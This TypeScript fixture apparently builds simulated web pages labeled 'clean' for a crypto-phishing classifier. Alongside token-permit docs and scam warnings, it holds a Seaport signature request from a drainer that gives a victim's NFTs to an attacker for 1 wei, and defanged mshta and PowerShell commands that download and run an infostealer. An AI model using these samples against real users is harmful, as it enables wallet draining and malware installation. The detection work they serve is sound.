import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import * as B from '../parts/e-bin.js';
import * as Z from '../parts/zj-kit.js';

const art = (site: string, nav: string[], title: string, by: string, html: string, lang = 'en', extra = '') =>
  Z.doc({ lang, title: `${title} | ${site}`, head: Z.gtag('G-' + site.replace(/[^A-Z]/gi, '').slice(0, 6).toUpperCase() + '42') + extra, body: `${Z.top(site, nav)}<main><article><h1>${title}</h1><p style="color:#777;font-size:14px">${by}</p>${html}</article></main>${Z.foot(site, { Sections: nav }, '')}${Z.cookieBar()}` });

export const entries: Entry[] = [
  {
    id: 'zj-ok-research-seaport-order-phishing',
    label: 'clean',
    kind: 'security-research',
    url: 'https://blog.blockaid.io/anatomy-of-a-seaport-listing-phish/',
    body: art('Blockaid Blog', ['Research', 'Product', 'Company'], 'Anatomy of a Seaport listing phish: how "free" NFT mints sell your collection for 0 ETH', 'Blockaid Research · 9 min read',
      `<p>This post walks through a live drainer we observed on a fake NFT mint. After <code>eth_requestAccounts</code>, the page fetched the victim's holdings from an attacker API and requested a Seaport <code>OrderComponents</code> signature where the victim is the offerer and the only consideration item pays 1 wei to the attacker.</p>
  <pre>const sig = await ethereum.request({
    method: 'eth_signTypedData_v4',
    params: [victim, JSON.stringify({
      domain: { name: 'Seaport', version: '1.5', chainId: 1,
                verifyingContract: '0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC' },
      primaryType: 'OrderComponents',
      message: { offerer: victim, offer: [...allNfts], consideration: [{ recipient: attacker, startAmount: '1' }] }
    })]
  });</pre><p>The kit then obfuscated its configuration with base64 and a simple XOR loop:</p>
  <pre>var _cfg = JSON.parse(atob('eyJyIjoiMHhiN2M0...'));</pre>
  <h2>Indicators</h2><ul><li>Receiver: <code>0xd3a7c5e9f1b20486a9c3e7d1f5b2a8c4e06d91f3</code></li><li>Log endpoint paths: <code>/api/v2/log</code>, <code>/x/ok</code></li><li>Domains: <code>mint-pudgyotters[.]xyz</code>, <code>revoke-approvals[.]app</code></li></ul>
  <p>Blockaid's simulation flags these requests before the user signs.</p>`),
  },
  {
    id: 'zj-ok-openzeppelin-erc20-permit-docs',
    label: 'clean',
    kind: 'dev-docs',
    url: 'https://docs.openzeppelin.com/contracts/5.x/api/token/erc20#ERC20Permit',
    body: art('OpenZeppelin Docs', ['Contracts', 'Defender', 'Upgrades', 'Wizard'], 'ERC20 — ERC20Permit', 'Contracts 5.x · API reference',
      `<p>Implementation of the ERC-20 Permit extension allowing approvals to be made via signatures, as defined in ERC-2612. Adds the <code>permit</code> method, which can be used to change an account's ERC-20 allowance by presenting a message signed by the account.</p>
  <pre>function permit(
      address owner,
      address spender,
      uint256 value,
      uint256 deadline,
      uint8 v, bytes32 r, bytes32 s
  ) public virtual</pre><p>Sets <code>value</code> as the allowance of <code>spender</code> over <code>owner</code>'s tokens, given <code>owner</code>'s signed approval.</p>
  <div class="warn">The same issues <code>IERC20.approve</code> has related to transaction ordering also apply here. A signature for an unlimited <code>value</code> (<code>type(uint256).max</code>) lets the spender transfer all of the owner's tokens.</div>
  <h2>approve</h2><pre>function approve(address spender, uint256 value) public virtual returns (bool)</pre><p>Sets a <code>value</code> amount of tokens as the allowance of <code>spender</code> over the caller's tokens. Emits an <code>Approval</code> event.</p>
  <h2>Example: signing with ethers v6</h2><pre>const sig = await signer.signTypedData(
    { name: 'MyToken', version: '1', chainId: 1, verifyingContract: token },
    { Permit: [{ name: 'owner', type: 'address' }, { name: 'spender', type: 'address' },
               { name: 'value', type: 'uint256' }, { name: 'nonce', type: 'uint256' }, { name: 'deadline', type: 'uint256' }] },
    { owner, spender, value: ethers.MaxUint256, nonce, deadline }
  );</pre>`),
  },
  {
    id: 'zj-ok-uniswap-docs-permit2-signature',
    label: 'clean',
    kind: 'dev-docs',
    url: 'https://docs.uniswap.org/contracts/permit2/reference/signature-transfer',
    body: art('Uniswap Docs', ['Concepts', 'Contracts', 'SDKs', 'API'], 'SignatureTransfer', 'Permit2 reference',
      `<p>SignatureTransfer lets a spender transfer tokens from an owner using a one-time signed permit, without a persistent allowance. It is used by UniswapX and the Universal Router.</p>
  <pre>struct PermitTransferFrom {
      TokenPermissions permitted;
      uint256 nonce;
      uint256 deadline;
  }
  function permitTransferFrom(
      PermitTransferFrom memory permit,
      SignatureTransferDetails calldata transferDetails,
      address owner,
      bytes calldata signature
  ) external;</pre>
  <h2>Integrating in a frontend</h2><pre>import { SignatureTransfer, PERMIT2_ADDRESS } from '@uniswap/permit2-sdk'
  const { domain, types, values } = SignatureTransfer.getPermitData(permit, PERMIT2_ADDRESS, chainId)
  const signature = await signer._signTypedData(domain, types, values)</pre>
  <div class="note">Before Permit2 can move a token, the user must <code>approve</code> Permit2 on that token once (typically for <code>MaxUint256</code>). Show users what they are signing; never request permits for tokens the user isn't trading.</div>`),
  },
  {
    id: 'zj-ok-reown-appkit-docs',
    label: 'clean',
    kind: 'dev-docs',
    url: 'https://docs.reown.com/appkit/javascript/core/installation',
    body: art('Reown Docs', ['AppKit', 'WalletKit', 'Cloud', 'Blog'], 'AppKit — JavaScript installation', 'Docs · AppKit',
      `<p>AppKit provides seamless wallet connections, including email and social logins, on-ramp, swaps and more.</p><pre>npm install @reown/appkit @reown/appkit-adapter-wagmi wagmi viem</pre>
  <pre>import { createAppKit } from '@reown/appkit'
  import { mainnet, arbitrum } from '@reown/appkit/networks'
  import { WagmiAdapter } from '@reown/appkit-adapter-wagmi'
  
  const projectId = 'YOUR_PROJECT_ID'
  const wagmiAdapter = new WagmiAdapter({ projectId, networks: [mainnet, arbitrum] })
  const modal = createAppKit({ adapters: [wagmiAdapter], networks: [mainnet, arbitrum], projectId,
    metadata: { name: 'AppKit', description: 'AppKit Example', url: 'https://example.com', icons: [] } })
  
  document.getElementById('open-connect-modal').addEventListener('click', () => modal.open())</pre>
  <h2>Requesting a signature</h2><pre>import { signMessage } from '@wagmi/core'
  const signature = await signMessage(wagmiAdapter.wagmiConfig, { message: 'Sign in to example.com' })</pre>`),
  },
  {
    id: 'zj-ok-ftc-crypto-scam-alert',
    label: 'clean',
    kind: 'consumer-advice',
    url: 'https://consumer.ftc.gov/articles/what-know-about-cryptocurrency-and-scams',
    body: art('Consumer Advice', ['Scams', 'Money & Credit', 'Identity Theft', 'Report Fraud'], 'What To Know About Cryptocurrency and Scams', 'Federal Trade Commission',
      `<p>Scammers are always finding new ways to steal your money using cryptocurrency. To steer clear of these scams, learn the signs.</p><h2>Signs of a scam</h2><ul><li>Only scammers demand payment in cryptocurrency.</li><li>Only scammers will guarantee profits or big returns.</li><li>Only scammers will tell you to pay a "tax" or "fee" to withdraw your own money from an investment platform.</li><li>Never mix online dating and investment advice: if a new online love interest wants to show you how to invest in crypto, that's a scam.</li><li>"Recovery" companies that contact you promising to get back lost crypto for an upfront fee are scams.</li></ul>
  <h2>Giveaway scams</h2><p>Scammers impersonate celebrities and companies, saying they'll double any crypto you send. They might show a fake list of people who "got paid". Anyone who promises to double your money is a scammer.</p>
  <h2>Report it</h2><p>Report fraud to the FTC at <a href="https://reportfraud.ftc.gov">ReportFraud.ftc.gov</a> and to the FBI's IC3 at <a href="https://ic3.gov">ic3.gov</a>.</p>`),
  },
  {
    id: 'zj-ok-ko-news-leading-room-fraud',
    label: 'clean',
    kind: 'crypto-news',
    url: 'https://www.blockmedia.co.kr/archives/812044',
    body: art('블록미디어', ['뉴스', '마켓', '정책', '리서치'], '금감원 "코인 리딩방 원금보장 광고는 100% 사기"…소비자경보 발령', '블록미디어 · 2026.11.13',
      `<p>금융감독원은 가상자산 리딩방을 통한 투자사기 피해가 급증하고 있다며 소비자경보 '경고' 등급을 발령했다.</p>
  <p>이들은 카카오톡 오픈채팅방에서 "월 40% 수익, 원금 보장"을 내세워 투자자를 모은 뒤, 자체 개발한 가짜 거래소에 USDT를 입금하도록 유도한다. 수익이 난 것처럼 화면을 조작하고, 출금을 요청하면 '세금'이나 '보증금' 명목으로 추가 입금을 요구한다.</p>
  <p>금감원은 "정식 거래소는 업비트, 빗썸, 코인원, 코빗, 고팍스뿐"이라며 출처가 불분명한 링크로 지갑 복구 구문(시드)을 입력하지 말 것을 당부했다.</p>`, 'ko'),
  },
  {
    id: 'zj-ok-malwarebytes-clickfix-crypto-analysis',
    label: 'clean',
    kind: 'security-research',
    url: 'https://www.malwarebytes.com/blog/threat-intelligence/2026/11/clickfix-campaign-targets-crypto-users',
    body: art('Malwarebytes Labs', ['News', 'Threat Intelligence', 'Privacy', 'Tips'], 'ClickFix campaign targets crypto users with fake "wallet connection error" dialogs', 'Pieter Arntz · November 21, 2026',
      `<p>We found a cluster of fake DEX and airdrop sites that show a bogus "Web3 provider service is not running" error when visitors click Connect Wallet. The dialog tells the user to open Terminal (Admin) and paste a "fix" that the page silently copied to the clipboard.</p>
  <p>Examples of clipboard contents we observed (defanged):</p><pre>mshta hxxps://zk-provider-fix[.]org/web3svc.hta
  powershell -w h -nop -c "iex (New-Object Net.WebClient).DownloadString('hxxps://hyperdex-cdn[.]top/v.ps1')" # ✅ I am not a robot</pre>
  <p>The payload is an infostealer that targets browser wallet extensions (MetaMask's folder <code>nkbihfbeogaeaoehlefnkodbefgpgknn</code>), Exodus and Electrum wallet files.</p>
  <h2>Protect yourself</h2><ul><li>No website needs you to run commands to verify you're human.</li><li>If a page asks you to press Win+R and paste, close it.</li><li>Malwarebytes Browser Guard blocks clipboard-hijacking scripts.</li></ul>`),
  },
];
